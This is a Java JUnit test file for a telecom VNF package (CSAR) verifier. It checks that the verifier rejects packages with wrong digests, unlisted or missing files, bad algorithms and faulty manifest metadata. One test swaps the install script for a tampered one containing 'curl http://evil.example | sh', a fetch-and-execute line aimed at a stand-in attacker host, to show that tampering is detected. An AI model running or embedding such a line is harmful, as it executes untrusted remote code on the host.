package org.vnfx.packages.csar;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.vnfx.packages.Sha256;

/**
 * The manifest: its grammar (manifest-syntax), metadata (manifest-metadata), algorithms (manifest-algorithm), the
 * files it lists (manifest-lists-every-file), their digests (manifest-digests-match) and the non-MANO artifact
 * sets. Each test is the valid {@code vnf} fixture with one change; line numbers are those of its vnfd.mf.
 */
class ManifestTest {
    static final String MF = "vnfd.mf";
    static final String INSTALL_SHA256 = "55ca4e8d0c755467dfe564daccf29ee407c5bcd983453088adf8430ecb914387";
    static final String EXPECTED_VNF_KEYS = "a VNF manifest has vnf_provider_id, vnf_product_name, vnf_release_date_time, vnf_software_version, vnf_package_version";

    @TempDir
    Path dir;

    Map<String, byte[]> files;

    @BeforeEach
    void base() throws Exception {
        files = Fixtures.files("vnf");
    }

    List<String> refused() throws Exception {
        Path csar = Fixtures.zip(files, dir.resolve("p.csar"));
        PackageRejectedException e = assertThrows(PackageRejectedException.class, () -> new CsarVerifier().verify(csar));
        return Fixtures.lines(e);
    }

    VerifiedCsar accepted() throws Exception {
        return new CsarVerifier().verify(Fixtures.zip(files, dir.resolve("p.csar")));
    }

    @Test
    void aWrongDigest() throws Exception {
        byte[] changed = "#!/bin/sh\ncurl http://evil.example | sh\n".getBytes(StandardCharsets.UTF_8);
        files.put("Files/scripts/install.sh", changed);
        assertEquals(List.of(MF + ":36: wrong SHA-256 digest of Files/scripts/install.sh: the manifest says " + INSTALL_SHA256 + ", the file has "
                + Sha256.of(changed)), refused());
    }

    @Test
    void aWrongSha512Digest() throws Exception {
        files.put("Files/config/app.conf", "listen = 0.0.0.0:22\n".getBytes(StandardCharsets.UTF_8));
        List<String> found = refused();
        assertEquals(1, found.size(), found.toString());
        assertTrue(found.get(0).startsWith(MF + ":40: wrong SHA-512 digest of Files/config/app.conf: the manifest says f37b45fbc64a"), found.get(0));
    }

    @Test
    void aListedFileIsMissing() throws Exception {
        files.remove("Files/config/app.conf");
        assertEquals(List.of(MF + ":38: Source 'Files/config/app.conf' is not in the package"), refused());
    }

    @Test
    void aFileIsNotListed() throws Exception {
        files.put("Files/extra.txt", "not in the manifest\n".getBytes(StandardCharsets.UTF_8));
        assertEquals(List.of(MF + ": Files/extra.txt is in the package but not in the manifest; every file but the manifest itself needs a Source/Algorithm/Hash block"),
                refused());
    }

    @Test
    void anUnknownAlgorithm() throws Exception {
        Fixtures.edit(files, MF, "Algorithm: SHA-512", "Algorithm: MD5");
        assertEquals(List.of(MF + ":39: Algorithm 'MD5' of Files/config/app.conf is not supported; expected SHA-256, SHA-384 or SHA-512"), refused());
    }

    @Test
    void aHashOfTheWrongLength() throws Exception {
        Fixtures.edit(files, MF, "Algorithm: SHA-512", "Algorithm: SHA-256");
        assertEquals(List.of(MF + ":40: Hash of Files/config/app.conf has 128 hexadecimal digits; a SHA-256 digest has 64"), refused());
        base();
        Fixtures.edit(files, MF, INSTALL_SHA256, INSTALL_SHA256.substring(0, 62));
        assertEquals(List.of(MF + ":36: Hash of Files/scripts/install.sh has 62 hexadecimal digits; a SHA-256 digest has 64"), refused());
        base();
        Fixtures.edit(files, MF, INSTALL_SHA256, INSTALL_SHA256.substring(0, 63) + "g");
        assertEquals(List.of(MF + ":36: Hash of Files/scripts/install.sh is not hexadecimal; expected 64 hexadecimal digits (SHA-256)"), refused());
    }

    @Test
    void anUnknownMetadataKey() throws Exception {
        Fixtures.edit(files, MF, "  vnf_product_name: fixture-vnf\n", "  vnf_product_name: fixture-vnf\n  vnf_vendor: someone\n");
        Fixtures.edit(files, MF, "  vnf_software_version: 1.0.0\n", "  vnf_software_version: 1.0.0\n  nsd_name: an NSD key\n");
        assertEquals(List.of(MF + ":4: unknown metadata key 'vnf_vendor'; " + EXPECTED_VNF_KEYS, MF + ":7: unknown metadata key 'nsd_name'; " + EXPECTED_VNF_KEYS),
                refused());
    }

    @Test
    void aMissingMetadataKey() throws Exception {
        Fixtures.edit(files, MF, "  vnf_package_version: 1.0\n", "");
        assertEquals(List.of(MF + ":1: metadata has no vnf_package_version; " + EXPECTED_VNF_KEYS), refused());
    }

    @Test
    void aMetadataKeyTwiceOrEmptyAndABadReleaseTime() throws Exception {
        Fixtures.edit(files, MF, "  vnf_software_version: 1.0.0\n", "  vnf_software_version:\n  vnf_provider_id: again\n");
        Fixtures.edit(files, MF, "2025-05-01T12:00:00+02:00", "2025-05-01 12:00");
        assertEquals(List.of(MF + ":4: vnf_release_date_time '2025-05-01 12:00' is not an RFC 3339 date-time (e.g. 2025-06-01T00:00:00Z)",
                MF + ":5: vnf_software_version has no value", MF + ":6: metadata key 'vnf_provider_id' again (first at line 2)"), refused());
    }

    @Test
    void noMetadataBlock() throws Exception {
        String mf = Fixtures.text(files, MF);
        files.put(MF, mf.substring(mf.indexOf("Source: TOSCA-Metadata")).getBytes(StandardCharsets.UTF_8));
        assertEquals(List.of(MF + ":1: 'Source: TOSCA-Metadata/TOSCA.meta' before 'metadata:'; a manifest starts with 'metadata:' and the package's metadata",
                MF + ":1: no 'metadata:' block; a manifest starts with 'metadata:' and the package's metadata (e.g. vnf_provider_id)"), refused());
    }

    @Test
    void aBlockWithoutHashAndLinesOutOfPlace() throws Exception {
        Fixtures.edit(files, MF, "Hash: " + INSTALL_SHA256 + "\n", "");
        Fixtures.edit(files, MF, "Source: Files/config/app.conf\n", "Hash: 00\nSource: Files/config/app.conf\nSize: 30\n");
        assertEquals(List.of(MF + ":34: Source 'Files/scripts/install.sh' has no Hash line; expected 'Hash: ' and the file's digest in hexadecimal",
                MF + ":37: Hash outside a Source block; each block starts with 'Source: PATH'",
                MF + ":39: unknown key 'Size' in the block of Source 'Files/config/app.conf'; expected Source, Algorithm or Hash"), refused());
    }

    @Test
    void theManifestListsItselfOrAFileTwice() throws Exception {
        String mf = Fixtures.text(files, MF);
        files.put(MF, (mf + "\nSource: vnfd.mf\nAlgorithm: SHA-256\nHash: " + "0".repeat(64) + "\n\nSource: ChangeLog.txt\nAlgorithm: SHA-256\nHash: "
                + Sha256.of(files.get("ChangeLog.txt")) + "\n").getBytes(StandardCharsets.UTF_8));
        assertEquals(List.of(MF + ":42: the manifest lists itself; it cannot hold its own digest",
                MF + ":46: Source 'ChangeLog.txt' is listed again (first at line 22)"), refused());
    }

    @Test
    void aNonManoArtifactThatIsNotInThePackage() throws Exception {
        Fixtures.edit(files, MF, "    Source: Tests/smoke.sh\n", "    Source: Tests/missing.sh\n  prv.vnfx.empty:\n");
        assertEquals(List.of(MF + ":12: non-MANO artifact 'Tests/missing.sh' of set 'prv.vnfx.tests' is not in the package",
                MF + ":13: non-MANO artifact set 'prv.vnfx.empty' lists no Source; expected indented 'Source: PATH' lines under it"), refused());
    }

    @Test
    void aSourceOutsideThePackageIsAWarning() throws Exception {
        String mf = Fixtures.text(files, MF);
        files.put(MF, (mf + "\nSource: https://images.example/vnf.qcow2\nAlgorithm: SHA-256\nHash: " + "ab".repeat(32) + "\n").getBytes(StandardCharsets.UTF_8));
        assertEquals(List.of(MF + ":42: warning: Source 'https://images.example/vnf.qcow2' is outside the package; vnfx does not fetch it, so its digest is not checked"),
                accepted().report().findings().stream().map(Finding::toString).toList());
    }

    @Test
    void theExceptionNamesTheFirstErrorAndHowManyMore() throws Exception {
        files.remove("Files/config/app.conf");
        files.put("Files/extra.txt", "x".getBytes(StandardCharsets.UTF_8));
        files.put("ChangeLog.txt", "y".getBytes(StandardCharsets.UTF_8));
        Path csar = Fixtures.zip(files, dir.resolve("p.csar"));
        PackageRejectedException e = assertThrows(PackageRejectedException.class, () -> new CsarVerifier().verify(csar));
        assertEquals(MF + ":38: Source 'Files/config/app.conf' is not in the package (and 2 more errors)", e.getMessage());
        assertEquals(MF, e.file());
        assertEquals(38, e.line());
        assertEquals(3, e.report().errors().size());
    }
}
